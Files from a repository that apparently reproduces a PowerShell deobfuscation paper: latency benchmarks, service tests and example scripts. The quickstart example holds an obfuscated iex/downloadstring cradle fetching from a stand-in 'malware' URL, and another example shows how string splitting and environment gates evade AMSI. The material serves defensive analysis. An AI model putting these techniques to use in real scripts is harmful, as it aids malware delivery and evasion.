    """Per-phase and end-to-end latency over the Fig 6 corpus, plus the
    pipeline hit counters aggregated across the last round."""
    from repro import Deobfuscator
    from repro.obs import PHASES
    from repro.options import PipelineOptions

    scripts = _fig6_corpus(PHASE_CORPUS_SIZE)
    tool = Deobfuscator(options=PipelineOptions(collect_spans=True))
    tool.deobfuscate(scripts[0])  # warm imports and regex tables

    phase_rounds: Dict[str, List[List[float]]] = {p: [] for p in PHASES}
    elapsed_rounds: List[List[float]] = []
    counters: Dict[str, int] = {}
    for _ in range(rounds):
        phase_row: Dict[str, List[float]] = {p: [] for p in PHASES}
        elapsed_row: List[float] = []
        counters = {}
        for script in scripts:
            result = tool.deobfuscate(script)
            stats = result.stats.to_dict()
            elapsed_row.append(result.elapsed_seconds)
            seconds = stats.get("phase_seconds") or {}
            for phase in PHASES:
                phase_row[phase].append(float(seconds.get(phase, 0.0)))
            for key, value in stats.items():
                if isinstance(value, int) and (
                    key.endswith("_hits")
                    or key.endswith("_misses")
                    or key in ("evaluator_steps", "pieces_recovered")
                ):
                    counters[key] = counters.get(key, 0) + value
        elapsed_rounds.append(elapsed_row)
        for phase in PHASES:
            phase_rounds[phase].append(phase_row[phase])

    return {
        "pipeline": _dist_ms(_min_rows(elapsed_rounds)),
        "phases": {
            phase: _dist_ms(_min_rows(phase_rounds[phase]))
            for phase in PHASES
        },
        "counters": counters,
    }


def _measure_multilayer(rounds: int) -> Dict[str, Any]:
    """End-to-end latency on the Fig 6 multilayer samples — the corpus
    the ≥1.3× acceptance criterion is judged on."""
    from repro import Deobfuscator

    scripts = multilayer_corpus()
    tool = Deobfuscator()
    tool.deobfuscate(scripts[0])  # warm

    per_round: List[List[float]] = []
    for _ in range(rounds):
        row = []
        for script in scripts:
            started = time.perf_counter()
            tool.deobfuscate(script)
            row.append(time.perf_counter() - started)
        per_round.append(row)
    return _dist_ms(_min_rows(per_round))


def _measure_batch() -> Dict[str, Any]:
    """Offline pool throughput: samples/sec at 2 workers."""
    from repro.batch import BatchPool, make_tasks, summarize
    from repro.dataset import generate_corpus

    samples = generate_corpus(BATCH_CORPUS_SIZE, seed=2022)
    with tempfile.TemporaryDirectory(prefix="trajectory-batch-") as root:
        paths = []
        for sample in samples:
            path = os.path.join(root, f"{sample.identifier}.ps1")
            with open(path, "w", encoding="utf-8") as handle:
                handle.write(sample.script)
            paths.append(path)
        tasks = make_tasks(paths, deadline_seconds=60.0)
        started = time.monotonic()
        records = list(BatchPool(jobs=2, timeout=60.0).run(tasks))
        wall = time.monotonic() - started
    summary = summarize(records, wall_seconds=wall)
    return {
        "samples_per_sec": round(
            summary["throughput_scripts_per_second"], 3
        ),
        "ok": summary["status_counts"].get("ok", 0),
        "total": summary["total"],
    }


def _measure_service() -> Dict[str, Any]:
    """In-process service round trip: cold vs cache-hit latency."""
    from repro.service import DeobfuscationService, ServiceConfig

    scripts = _fig6_corpus(SERVICE_SCRIPTS * 4)
    unique = [
        scripts[2 * i] + "\n" + scripts[2 * i + 1]
        for i in range(SERVICE_SCRIPTS)
    ]
    cold, warm = [], []
    started = time.monotonic()
    with DeobfuscationService(
        ServiceConfig(jobs=2, timeout=60.0, queue_limit=64)
    ) as service:
        for script in unique:
            t0 = time.monotonic()
            record = service.submit(script)
            cold.append(time.monotonic() - t0)
            assert record["status"] == "ok", record.get("error")
        for script in unique:
            t0 = time.monotonic()
            record = service.submit(script)
            warm.append(time.monotonic() - t0)
            assert record["cache_hit"] is True
        wall = time.monotonic() - started
    warm_p50 = _p50(warm)
    cold_p50 = _p50(cold)
    return {
        "cold_p50_ms": round(cold_p50 * 1000, 4),
        "warm_p50_ms": round(warm_p50 * 1000, 4),
        "cache_speedup": round(cold_p50 / warm_p50, 2)
        if warm_p50
        else float("inf"),
        "requests_per_sec": round(2 * SERVICE_SCRIPTS / wall, 2)
        if wall
        else float("inf"),
    }


def _measure_logging() -> Dict[str, Any]:
    """The event-log overhead pin, both halves.

    Disabled (the default): the emit path is two attribute reads and a
    comparison, micro-timed per call.  Enabled (debug level, ring sink
    only — what serving configures): pipeline p50 over the Fig 6
    corpus versus the disabled baseline, min-of-rounds like the span
    overhead bench, sampling past the minimum rounds until the
    estimate clears the budget so scheduler noise cannot flake CI.
    """
    from repro import Deobfuscator
    from repro.obs.log import (
        configure_logging,
        get_logger,
        reset_logging,
    )

    # Half 1: the disabled fast path, per call.
    reset_logging()
    logger = get_logger("bench.overhead")
    calls = 200_000
    started = time.perf_counter()
    for _ in range(calls):
        logger.debug("never emitted", value=1)
    disabled_ns = (time.perf_counter() - started) / calls * 1e9

    # Half 2: corpus p50 with logging off vs debug-ring on.
    scripts = _fig6_corpus(PHASE_CORPUS_SIZE)
    tool = Deobfuscator()
    tool.deobfuscate(scripts[0])  # warm

    def corpus_pass() -> List[float]:
        row = []
        for script in scripts:
            t0 = time.perf_counter()
            tool.deobfuscate(script)
            row.append(time.perf_counter() - t0)
        return row

    off_rounds: List[List[float]] = []
    on_rounds: List[List[float]] = []
    try:
        for round_index in range(LOGGING_MAX_ROUNDS):
            reset_logging()
            off_rounds.append(corpus_pass())
            configure_logging(level="debug")
            on_rounds.append(corpus_pass())
            if round_index + 1 < LOGGING_MIN_ROUNDS:
                continue
            off_p50 = _p50(_min_rows(off_rounds)) * 1000
            on_p50 = _p50(_min_rows(on_rounds)) * 1000
            budget = (
                off_p50 * (1 + LOGGING_OVERHEAD_BUDGET_PCT / 100)
                + LOGGING_OVERHEAD_SLACK_MS
            )
            if on_p50 <= budget:
                break
    finally:
        reset_logging()

    off_p50 = _p50(_min_rows(off_rounds)) * 1000
    on_p50 = _p50(_min_rows(on_rounds)) * 1000
    overhead_pct = (on_p50 / off_p50 - 1) * 100 if off_p50 else 0.0
    return {
        "disabled_ns_per_call": round(disabled_ns, 1),
        "disabled_p50_ms": round(off_p50, 4),
        "enabled_ring_p50_ms": round(on_p50, 4),
        "overhead_pct": round(overhead_pct, 2),
        "rounds": len(off_rounds),
    }


def measure(
    rounds: int = DEFAULT_ROUNDS,
    with_batch: bool = True,
    with_service: bool = True,
) -> Dict[str, Any]:
    """Run the full measurement suite and return one metrics payload."""
    phases = _measure_phases(rounds)
    metrics: Dict[str, Any] = {
        "pipeline": phases["pipeline"],
        "multilayer": _measure_multilayer(rounds),
        "phases": phases["phases"],
        "counters": phases["counters"],
        "logging": _measure_logging(),
    }
    if with_batch:
        metrics["batch"] = _measure_batch()
    if with_service:
        metrics["service"] = _measure_service()
    return metrics


# --------------------------------------------------------------------------
# trajectory file
# --------------------------------------------------------------------------

def load_trajectory(path: str = TRAJECTORY_PATH) -> Dict[str, Any]:
    if not os.path.exists(path):
        return {"schema_version": SCHEMA_VERSION, "entries": []}
    with open(path, "r", encoding="utf-8") as handle:
        data = json.load(handle)
    data.setdefault("schema_version", SCHEMA_VERSION)
    data.setdefault("entries", [])
    return data


def _git_commit() -> Optional[str]:
    try:
        out = subprocess.run(
            ["git", "rev-parse", "--short", "HEAD"],
            cwd=REPO_ROOT,
            capture_output=True,
            text=True,
            timeout=10,
        )
    except OSError:
        return None
    return out.stdout.strip() or None if out.returncode == 0 else None


def make_entry(label: str, metrics: Dict[str, Any]) -> Dict[str, Any]:
    return {
        "label": label,
        "recorded_at": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime()),
        "git": _git_commit(),
        "python": platform.python_version(),
        "metrics": metrics,
    }


def append_entry(
    entry: Dict[str, Any], path: str = TRAJECTORY_PATH
) -> Dict[str, Any]:
    """Append-on-run: entries accumulate, history is never rewritten."""
    data = load_trajectory(path)
    data["entries"].append(entry)
    with open(path, "w", encoding="utf-8") as handle:
        json.dump(data, handle, indent=2, sort_keys=False)
        handle.write("\n")
    return data


# --------------------------------------------------------------------------
# staging hook for the pytest benchmarks
# --------------------------------------------------------------------------

def stage_metrics(name: str, metrics: Dict[str, Any]) -> None:
    """Record one benchmark's numeric results machine-readably.

    Every ``benchmarks/test_*`` bench calls this next to its
    ``write_result`` table so a benchmark run leaves JSON, not just
    prose, in ``benchmarks/results/``.
    """
    os.makedirs(os.path.dirname(STAGED_PATH), exist_ok=True)
    staged: Dict[str, Any] = {}
    if os.path.exists(STAGED_PATH):
        try:
            with open(STAGED_PATH, "r", encoding="utf-8") as handle:
                staged = json.load(handle)
        except (OSError, ValueError):
            staged = {}
    staged[name] = metrics
    with open(STAGED_PATH, "w", encoding="utf-8") as handle:
        json.dump(staged, handle, indent=2, sort_keys=True)
        handle.write("\n")


# --------------------------------------------------------------------------
# the no-regression gate
# --------------------------------------------------------------------------

def _gated_latencies(metrics: Dict[str, Any]) -> Dict[str, float]:
    """The p50 latencies the gate protects, flattened to one mapping."""
    gated = {
        "pipeline.p50_ms": metrics["pipeline"]["p50_ms"],
        "multilayer.p50_ms": metrics["multilayer"]["p50_ms"],
    }
    for phase, dist in (metrics.get("phases") or {}).items():
        gated[f"phase.{phase}.p50_ms"] = dist["p50_ms"]
    return gated


def check_regression(
    fresh: Dict[str, Any],
    committed: Dict[str, Any],
    tolerance: float = DEFAULT_TOLERANCE,
    slack_ms: float = DEFAULT_SLACK_MS,
) -> List[str]:
    """Compare a fresh measurement against the last committed entry.

    Returns a list of violation strings (empty means the gate passes).
    A metric regresses when ``fresh > committed * (1 + tolerance) +
    slack_ms`` — the absolute slack keeps sub-millisecond phases from
    flaking the build on scheduler noise.
    """
    problems = []
    logging_metrics = fresh.get("logging")
    if logging_metrics:
        enabled = logging_metrics["enabled_ring_p50_ms"]
        disabled = logging_metrics["disabled_p50_ms"]
        budget = (
            disabled * (1 + LOGGING_OVERHEAD_BUDGET_PCT / 100)
            + LOGGING_OVERHEAD_SLACK_MS
        )
        if enabled > budget:
            problems.append(
                f"logging.overhead: enabled p50 {enabled:.3f}ms exceeds "
                f"{budget:.3f}ms (disabled {disabled:.3f}ms + "
                f"{LOGGING_OVERHEAD_BUDGET_PCT:.0f}% + "
                f"{LOGGING_OVERHEAD_SLACK_MS}ms slack)"
            )
    fresh_gated = _gated_latencies(fresh)
    committed_gated = _gated_latencies(committed)
    for name, baseline in sorted(committed_gated.items()):
        current = fresh_gated.get(name)
        if current is None:
            problems.append(f"{name}: missing from fresh measurement")
            continue
        budget = baseline * (1.0 + tolerance) + slack_ms
        if current > budget:
            problems.append(
                f"{name}: {current:.3f}ms exceeds budget {budget:.3f}ms "
                f"(committed {baseline:.3f}ms, tolerance "
                f"{tolerance:.0%} + {slack_ms}ms slack)"
            )
    return problems


def render_entry(entry: Dict[str, Any]) -> str:
    metrics = entry["metrics"]
    lines = [
        f"entry: {entry.get('label')} "
        f"({entry.get('recorded_at')}, git {entry.get('git')}, "
        f"python {entry.get('python')})",
        f"  pipeline p50/p95:   {metrics['pipeline']['p50_ms']:.3f} / "
        f"{metrics['pipeline']['p95_ms']:.3f} ms "
        f"({metrics['pipeline']['samples']} samples)",
        f"  multilayer p50/p95: {metrics['multilayer']['p50_ms']:.3f} / "
        f"{metrics['multilayer']['p95_ms']:.3f} ms",
    ]
    for phase, dist in (metrics.get("phases") or {}).items():
        lines.append(
            f"    phase {phase:<11} p50 {dist['p50_ms']:.3f} ms   "
            f"p95 {dist['p95_ms']:.3f} ms"
        )
    batch = metrics.get("batch")
    if batch:
        lines.append(f"  batch: {batch['samples_per_sec']} samples/s")
    service = metrics.get("service")
    if service:
        lines.append(
            f"  service: cold p50 {service['cold_p50_ms']:.1f} ms, "
            f"warm p50 {service['warm_p50_ms']:.2f} ms, "
            f"cache speedup {service['cache_speedup']}x, "
            f"{service['requests_per_sec']} req/s"
        )
    logging_metrics = metrics.get("logging")
    if logging_metrics:
        lines.append(
            f"  logging: disabled emit "
            f"{logging_metrics['disabled_ns_per_call']:.0f} ns/call, "
            f"debug-ring overhead "
            f"{logging_metrics['overhead_pct']:+.2f}% "
            f"(budget {LOGGING_OVERHEAD_BUDGET_PCT:.0f}%)"
        )
    counters = metrics.get("counters")
    if counters:
        rendered = ", ".join(
            f"{key}={value}" for key, value in sorted(counters.items())
        )
        lines.append(f"  counters: {rendered}")
    return "\n".join(lines)


# --------------------------------------------------------------------------
# CLI
# --------------------------------------------------------------------------

def _build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="python -m benchmarks.trajectory",
        description="Run, record, and gate the pipeline perf trajectory.",
    )
    sub = parser.add_subparsers(dest="command", required=True)

    run = sub.add_parser(
        "run", help="measure and append an entry to BENCH_pipeline.json"
    )
    run.add_argument("--label", default="run", help="entry label")
    run.add_argument("--rounds", type=int, default=DEFAULT_ROUNDS)
    run.add_argument("--path", default=TRAJECTORY_PATH)
    run.add_argument(
        "--no-append",
        action="store_true",
        help="measure and print without touching the trajectory file",
    )
    run.add_argument(
        "--skip-slow",
        action="store_true",
        help="skip the batch and service measurements",
    )

    check = sub.add_parser(
        "check",
        help="measure fresh and fail on regression vs the last entry",
    )
    check.add_argument("--rounds", type=int, default=DEFAULT_ROUNDS)
    check.add_argument("--path", default=TRAJECTORY_PATH)
    check.add_argument(
        "--tolerance", type=float, default=DEFAULT_TOLERANCE
    )
    check.add_argument("--slack-ms", type=float, default=DEFAULT_SLACK_MS)
    check.add_argument(
        "--artifact",
        default=None,
        help="also write the fresh entry to this JSON file",
    )
    check.add_argument(
        "--skip-slow",
        action="store_true",
        help="skip the batch and service measurements",
    )

    sub.add_parser("show", help="print the committed trajectory")
    return parser


def main(argv: Optional[List[str]] = None) -> int:
    args = _build_parser().parse_args(argv)

    if args.command == "show":
        data = load_trajectory()
        if not data["entries"]:
            print("no trajectory entries recorded")
            return 0
        for entry in data["entries"]:
            print(render_entry(entry))
            print()
        return 0

    with_slow = not getattr(args, "skip_slow", False)
    metrics = measure(
        rounds=args.rounds, with_batch=with_slow, with_service=with_slow
    )

    if args.command == "run":
        entry = make_entry(args.label, metrics)
        print(render_entry(entry))
        if not args.no_append:
            append_entry(entry, path=args.path)
            print(f"\nappended entry '{args.label}' to {args.path}")
        return 0

    # check
    entry = make_entry("fresh", metrics)
    print(render_entry(entry))
    if args.artifact:
        with open(args.artifact, "w", encoding="utf-8") as handle:
            json.dump(entry, handle, indent=2)
            handle.write("\n")
    data = load_trajectory(args.path)
    if not data["entries"]:
        print(f"\nno committed entries in {args.path}; nothing to gate")
        return 1
    committed = data["entries"][-1]
    problems = check_regression(
        metrics,
        committed["metrics"],
        tolerance=args.tolerance,
        slack_ms=args.slack_ms,
    )
    print(
        f"\ngate: fresh vs committed entry "
        f"'{committed.get('label')}' ({committed.get('recorded_at')})"
    )
    if problems:
        for problem in problems:
            print(f"  REGRESSION {problem}")
        return 1
    print(
        f"  ok — no phase p50 regressed beyond "
        f"{args.tolerance:.0%} + {args.slack_ms}ms slack"
    )
    return 0


if __name__ == "__main__":
    sys.exit(main())
