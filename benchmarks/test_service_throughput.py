"""(ours) — ``repro serve`` throughput: cache-hit speedup under load.

The acceptance scenario for the service PR: a 2-worker fleet takes 100
concurrent HTTP requests spread over 10 unique obfuscated scripts.
Single-flight plus the content-addressed cache must hold the hit ratio
at ≥ 90%, drop nothing, return byte-identical results to the offline
``repro deobfuscate`` path, and answer cached requests ≥ 10× faster
than cold pipeline executions.

The fleet PR adds the front-end comparison: the asyncio edge (the
``repro serve`` default) must sustain at least the threaded edge's
cache-hit throughput on the same burst.
"""

import json
import statistics
import threading
import time
import urllib.request

import pytest

from benchmarks.bench_utils import render_table, write_result
from benchmarks.trajectory import stage_metrics
from repro import Deobfuscator
from repro.service import (
    DeobfuscationService,
    ServiceConfig,
    start_async_server,
    start_server,
)

UNIQUE_SCRIPTS = 10
TOTAL_REQUESTS = 100


@pytest.fixture(scope="module")
def scripts():
    from repro.dataset import generate_corpus

    # Joined pairs make each sample heavy enough that pipeline time,
    # not HTTP overhead, dominates the cold path being compared.
    samples = generate_corpus(2 * UNIQUE_SCRIPTS, seed=7321)
    return [
        samples[2 * index].script + "\n" + samples[2 * index + 1].script
        for index in range(UNIQUE_SCRIPTS)
    ]


@pytest.fixture(scope="module")
def served():
    service = DeobfuscationService(
        ServiceConfig(jobs=2, timeout=60.0, queue_limit=128)
    )
    server, thread = start_server(service)
    host, port = server.server_address[:2]
    yield service, f"http://{host}:{port}"
    server.shutdown()
    thread.join(timeout=5.0)
    server.server_close()
    service.close()


def post(url, script):
    request = urllib.request.Request(
        url + "/deobfuscate",
        data=json.dumps({"script": script}).encode("utf-8"),
        headers={"Content-Type": "application/json"},
        method="POST",
    )
    started = time.monotonic()
    with urllib.request.urlopen(request, timeout=120.0) as response:
        body = json.loads(response.read())
        return response.status, body, time.monotonic() - started


def scrape(url, name):
    with urllib.request.urlopen(url + "/metrics", timeout=30.0) as response:
        for line in response.read().decode("utf-8").splitlines():
            if line.startswith(name + " "):
                return float(line.rsplit(" ", 1)[1])
    raise AssertionError(f"metric {name} not found")


def test_service_throughput(served, scripts):
    service, url = served

    # -- cold pass: 10 unique scripts execute the pipeline ------------------
    cold_seconds = []
    cold_results = {}
    for script in scripts:
        code, body, elapsed = post(url, script)
        assert code == 200 and body["status"] == "ok"
        assert body["cache_hit"] is False and body["coalesced"] is False
        cold_seconds.append(elapsed)
        cold_results[script] = body["script"]

    # -- fidelity: identical to the offline repro deobfuscate path ----------
    tool = Deobfuscator()
    for script in scripts:
        assert cold_results[script] == tool.deobfuscate(script).script

    # -- warm latency: sequential cache hits --------------------------------
    warm_seconds = []
    for script in scripts:
        code, body, elapsed = post(url, script)
        assert code == 200 and body["cache_hit"] is True
        warm_seconds.append(elapsed)

    # -- load: 100 concurrent requests over the same 10 scripts -------------
    outcomes = [None] * TOTAL_REQUESTS
    barrier = threading.Barrier(TOTAL_REQUESTS)

    def one(slot):
        barrier.wait(timeout=60.0)
        outcomes[slot] = post(url, scripts[slot % UNIQUE_SCRIPTS])

    started = time.monotonic()
    threads = [
        threading.Thread(target=one, args=(slot,))
        for slot in range(TOTAL_REQUESTS)
    ]
    for worker in threads:
        worker.start()
    for worker in threads:
        worker.join(timeout=120.0)
    load_wall = time.monotonic() - started

    # zero dropped, every answer correct and served from cache
    assert all(outcome is not None for outcome in outcomes)
    for slot, (code, body, _elapsed) in enumerate(outcomes):
        assert code == 200
        assert body["script"] == cold_results[scripts[slot % UNIQUE_SCRIPTS]]

    hit_ratio = scrape(url, "repro_service_cache_hit_ratio")
    executions = service.counters["executions"]
    cold_p50 = statistics.median(cold_seconds)
    warm_p50 = statistics.median(warm_seconds)
    speedup = cold_p50 / warm_p50 if warm_p50 else float("inf")

    text = render_table(
        f"Service throughput — {TOTAL_REQUESTS} concurrent requests over "
        f"{UNIQUE_SCRIPTS} unique scripts, 2 workers",
        ["Measure", "value"],
        [
            ["pipeline executions", executions],
            ["cache hit ratio", f"{hit_ratio:.3f}"],
            ["cold p50 (ms)", f"{cold_p50 * 1000:.1f}"],
            ["cache-hit p50 (ms)", f"{warm_p50 * 1000:.1f}"],
            ["cache-hit speedup", f"{speedup:.1f}x"],
            ["load wall (s)", f"{load_wall:.2f}"],
            [
                "load req/s",
                f"{TOTAL_REQUESTS / load_wall:.0f}" if load_wall else "inf",
            ],
        ],
    )
    write_result("service_throughput", text)
    stage_metrics("service_throughput", {
        "executions": executions,
        "cache_hit_ratio": hit_ratio,
        "cold_p50_ms": cold_p50 * 1000,
        "warm_p50_ms": warm_p50 * 1000,
        "cache_speedup": speedup,
        "requests_per_sec": (
            TOTAL_REQUESTS / load_wall if load_wall else 0.0
        ),
    })

    # acceptance: executions stayed at one per unique script, ratio >= 90%,
    # and the cached path is an order of magnitude faster than cold
    assert executions == UNIQUE_SCRIPTS
    assert hit_ratio >= 0.9
    assert speedup >= 10.0


def _burst(url, scripts, total):
    """Fire *total* concurrent cache-hit requests; return (wall, errors)."""
    outcomes = [None] * total
    barrier = threading.Barrier(total)

    def one(slot):
        barrier.wait(timeout=60.0)
        outcomes[slot] = post(url, scripts[slot % len(scripts)])

    threads = [
        threading.Thread(target=one, args=(slot,)) for slot in range(total)
    ]
    started = time.monotonic()
    for worker in threads:
        worker.start()
    for worker in threads:
        worker.join(timeout=120.0)
    wall = time.monotonic() - started
    assert all(outcome is not None for outcome in outcomes)
    for code, body, _elapsed in outcomes:
        assert code == 200 and body["cache_hit"] is True
    return wall


def _edge_rps(make_edge, scripts, rounds=3):
    """Best-of-*rounds* cache-hit throughput for one front end."""
    service = DeobfuscationService(
        ServiceConfig(jobs=2, timeout=60.0, queue_limit=128)
    )
    url, stop = make_edge(service)
    try:
        for script in scripts:  # warm the cache: the burst is edge-bound
            code, body, _elapsed = post(url, script)
            assert code == 200 and body["status"] == "ok"
        best = float("inf")
        for _ in range(rounds):
            best = min(best, _burst(url, scripts, TOTAL_REQUESTS))
        return TOTAL_REQUESTS / best
    finally:
        stop()
        service.close()


def _threaded_edge(service):
    server, thread = start_server(service)
    host, port = server.server_address[:2]

    def stop():
        server.shutdown()
        thread.join(timeout=5.0)
        server.server_close()

    return f"http://{host}:{port}", stop


def _async_edge(service):
    handle = start_async_server(service)
    host, port = handle.server_address
    return f"http://{host}:{port}", lambda: handle.shutdown(drain=False)


def test_async_edge_sustains_threaded_throughput(scripts):
    """The default asyncio front end must not cost throughput.

    Both edges answer the same 100-request cache-hit burst over the
    same warmed 2-worker service; the comparison is pure front-end
    overhead (connection accept, parse, dispatch, respond).  Best of 3
    rounds per edge smooths scheduler noise; the bar keeps a small
    tolerance because two same-machine runs are never identical.
    """
    threaded_rps = _edge_rps(_threaded_edge, scripts)
    async_rps = _edge_rps(_async_edge, scripts)

    ratio = async_rps / threaded_rps if threaded_rps else float("inf")
    text = render_table(
        f"Front-end comparison — {TOTAL_REQUESTS} concurrent cache hits, "
        "best of 3 rounds",
        ["Edge", "req/s"],
        [
            ["threaded (--legacy-threaded)", f"{threaded_rps:.0f}"],
            ["asyncio (default)", f"{async_rps:.0f}"],
            ["asyncio / threaded", f"{ratio:.2f}x"],
        ],
    )
    write_result("service_edge_throughput", text)
    stage_metrics("service_edge_throughput", {
        "threaded_rps": threaded_rps,
        "async_rps": async_rps,
        "async_over_threaded": ratio,
    })

    assert ratio >= 0.9, (
        f"asyncio edge lost throughput: {async_rps:.0f} req/s vs "
        f"threaded {threaded_rps:.0f} req/s"
    )
