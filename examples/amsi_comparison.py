#!/usr/bin/env python3
"""AMSI vs Invoke-Deobfuscation (the paper's Section V-B).

AMSI sees every buffer supplied to the scripting engine — but only what
is actually *invoked*.  This example reproduces both of the paper's
bypass observations:

1. obfuscated strings that are never invoked ('Amsi'+'Utils') are
   invisible to AMSI but trivially recovered statically;
2. environment-gated scripts never execute their invoker in a sandbox,
   so AMSI sees nothing — static AST recovery is unaffected.

Run:  python examples/amsi_comparison.py
"""

from repro import deobfuscate
from repro.analysis.amsi import amsi_view

CASES = {
    "plain invoked layer": "iex ('write-host ' + 'Amsi' + 'Utils')",
    "never-invoked concat": "$sig = 'Amsi' + 'Utils'",
    "environment-gated": (
        "if ($env:USERNAME -eq 'user') { exit }\n"
        "iex ('write-host ' + 'Amsi' + 'Utils')"
    ),
}


def main() -> None:
    for name, script in CASES.items():
        print(f"=== {name} ===")
        print(script)
        report = amsi_view(script)
        amsi_sees = report.would_match("AmsiUtils")
        result = deobfuscate(script)
        static_sees = "AmsiUtils" in result.script
        print(f"  AMSI scanned {len(report.buffers)} buffer(s); "
              f"signature 'AmsiUtils' visible to AMSI: {amsi_sees}")
        print(f"  visible to AST-based deobfuscation: {static_sees}")
        print()
    print(
        "AMSI only surfaces invoked content; the deobfuscator recovers "
        "the same strings statically\nand is immune to environment gates "
        "— the paper's Section V-B conclusion."
    )


if __name__ == "__main__":
    main()
