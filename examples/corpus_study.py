#!/usr/bin/env python3
"""Corpus study: the paper's dataset pipeline end to end, in miniature.

Generates a wild-style corpus with duplicates and junk, runs the Section
IV-B1 preprocessing (syntax validation, token filters, structure dedup),
scores obfuscation levels (Table I) and measures how much the
deobfuscator mitigates them (Table V's headline number).

Run:  python examples/corpus_study.py
"""

from repro import Deobfuscator
from repro.dataset import generate_corpus, preprocess
from repro.scoring import score_script
from repro.scoring.score import score_reduction


def main() -> None:
    corpus = generate_corpus(
        60, seed=11, duplicate_fraction=0.25, junk_fraction=0.15
    )
    print(f"raw corpus: {len(corpus)} files")

    kept, stats = preprocess(corpus)
    print(
        f"after preprocessing: {stats.kept} kept "
        f"(invalid syntax {stats.invalid_syntax}, "
        f"unknown commands {stats.unknown_commands}, "
        f"single-string {stats.single_string}, "
        f"structural duplicates {stats.duplicates})\n"
    )

    level_counts = {1: 0, 2: 0, 3: 0}
    for sample in kept:
        report = score_script(sample.script)
        for level in (1, 2, 3):
            if report.has_level(level):
                level_counts[level] += 1
    print("obfuscation prevalence (Table I shape):")
    for level in (1, 2, 3):
        share = 100.0 * level_counts[level] / len(kept)
        print(f"  L{level}: {level_counts[level]:>3} samples ({share:.1f}%)")

    tool = Deobfuscator()
    reductions = []
    for sample in kept:
        result = tool.deobfuscate(sample.script)
        reductions.append(score_reduction(sample.script, result.script))
    average = 100.0 * sum(reductions) / len(reductions)
    print(
        f"\naverage obfuscation-score reduction after deobfuscation: "
        f"{average:.1f}%  (paper: 46%)"
    )


if __name__ == "__main__":
    main()
