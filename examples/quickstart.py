#!/usr/bin/env python3
"""Quickstart: deobfuscate a malicious-looking PowerShell one-liner.

Run:  python examples/quickstart.py
"""

from repro import deobfuscate

OBFUSCATED = (
    "I`E`X (\"{2}{0}{1}\" -f 'ost h', 'ello', 'write-h')\n"
    "$xdjmd = 'aAB0AHQAcABzADoALwAvAHQAZQBzAHQALgBjAG'\n"
    "$lsffs = '8AbQAvAG0AYQBsAHcAYQByAGUALgB0AHgAdAA='\n"
    "$sdfs = [TeXT.eNcOdINg]::Unicode.GetString("
    "[Convert]::FromBase64String($xdjmd + $lsffs))\n"
    ".($psHoME[4]+$PSHOME[30]+'x') (NeW-oBJeCt Net.WebClient)"
    ".downloadstring($sdfs)"
)


def main() -> None:
    print("=== obfuscated input (the paper's Fig 7a) ===")
    print(OBFUSCATED)
    print()

    result = deobfuscate(OBFUSCATED)

    print("=== deobfuscated output (the paper's Fig 7d) ===")
    print(result.script)
    print()
    print(
        f"iterations: {result.iterations}, "
        f"layers unwrapped: {result.layers_unwrapped}, "
        f"pieces recovered: {result.stats.pieces_recovered}, "
        f"variables traced: {result.stats.variables_traced}"
    )
    print(f"elapsed: {result.elapsed_seconds * 1000:.1f} ms")

    # The malicious URL is now in the clear; the download call survives
    # as *code* (its method is on the blocklist and never executed).
    assert "https://test.com/malware.txt" in result.script
    assert "downloadstring" in result.script.lower()
    print("\nrecovered C2 URL: https://test.com/malware.txt")


if __name__ == "__main__":
    main()
