#!/usr/bin/env python3
"""Obfuscation playground: apply every Table II technique and undo it.

Shows each technique's output side by side with the deobfuscated result —
a compact tour of the whole toolkit (and of the one technique the paper's
approach cannot undo, whitespace encoding).

Run:  python examples/obfuscation_playground.py
"""

import random

from repro import deobfuscate
from repro.obfuscation.catalog import TECHNIQUES

PAYLOAD = "write-host hello"


def main() -> None:
    rng_seed = 2022
    width = max(len(name) for name in TECHNIQUES)
    print(f"payload: {PAYLOAD!r}\n")
    for name, technique in sorted(TECHNIQUES.items()):
        obfuscated = technique.apply_to_script(
            PAYLOAD, random.Random(rng_seed)
        )
        result = deobfuscate(obfuscated)
        recovered = "write-host hello" in result.script.lower()
        status = "recovered" if recovered else "NOT recovered"
        preview = obfuscated.replace("\n", " ")[:68]
        print(f"[L{technique.level}] {name:<{width}}  {status}")
        print(f"     in : {preview}")
        print(f"     out: {result.script.splitlines()[0][:68]}")
        print()
    print(
        "whitespace_encoding is expected to stay unrecovered: its decode "
        "loop\nassigns inside a loop, which variable tracing abandons "
        "(paper Section V-C)."
    )


if __name__ == "__main__":
    main()
