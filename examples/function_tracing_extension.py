#!/usr/bin/env python3
"""The Section V-C limitation — and the extension that lifts it.

The paper: "if attackers put the recovery algorithm into function and
utilize function calls to recover the obfuscated data, our approach
hardly traces the obfuscated chain."  This example shows the failure with
the paper-faithful configuration and the recovery with the
``trace_functions`` extension.

Run:  python examples/function_tracing_extension.py
"""

import random

from repro import Deobfuscator
from repro.obfuscation.function_wrap import (
    nested_function_decoder,
    wrap_function_decoder,
)

PAYLOAD = "write-host hidden-behind-a-function"


def main() -> None:
    obfuscated = wrap_function_decoder(PAYLOAD, random.Random(3))
    print("=== function-wrapped sample (Section V-C) ===")
    print(obfuscated)

    print("\n--- paper-faithful configuration ---")
    result = Deobfuscator().deobfuscate(obfuscated)
    print(result.script)
    print(
        "payload recovered:",
        "hidden-behind-a-function" in result.script,
    )

    print("\n--- with trace_functions=True (extension) ---")
    extended = Deobfuscator(trace_functions=True).deobfuscate(obfuscated)
    print(extended.script)
    print(
        "payload recovered:",
        "hidden-behind-a-function" in extended.script,
    )

    print("\n=== nested decoder functions (the paper's worst case) ===")
    nested = nested_function_decoder(PAYLOAD, random.Random(4))
    print(nested)
    extended = Deobfuscator(trace_functions=True).deobfuscate(nested)
    print("\nrecovered:", "hidden-behind-a-function" in extended.script)


if __name__ == "__main__":
    main()
