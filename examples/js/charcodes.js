var _0xdead = String.fromCharCode(104, 101, 108, 108, 111);
var _0xbeef = _0xdead + String.fromCharCode(32) + 'world';
eval('console.log(_0xbeef.toUpperCase());');
