var _0x4f2a = ['wor' + 'ld', 'hel' + 'lo'];
_0x4f2a = _0x4f2a.slice(1).concat(_0x4f2a.slice(0, 1));
console.log(_0x4f2a[0] + ' ' + _0x4f2a[1]);
