var _0x1a2b = 'conso' + 'le.log';
eval(_0x1a2b + '(\'hel\' + \'lo wor\' + \'ld\');');
