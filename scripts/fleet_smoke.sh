#!/usr/bin/env bash
# End-to-end smoke test for `repro fleet`, run by CI and runnable
# locally: boot 2 instances behind the consistent-hash router, prove
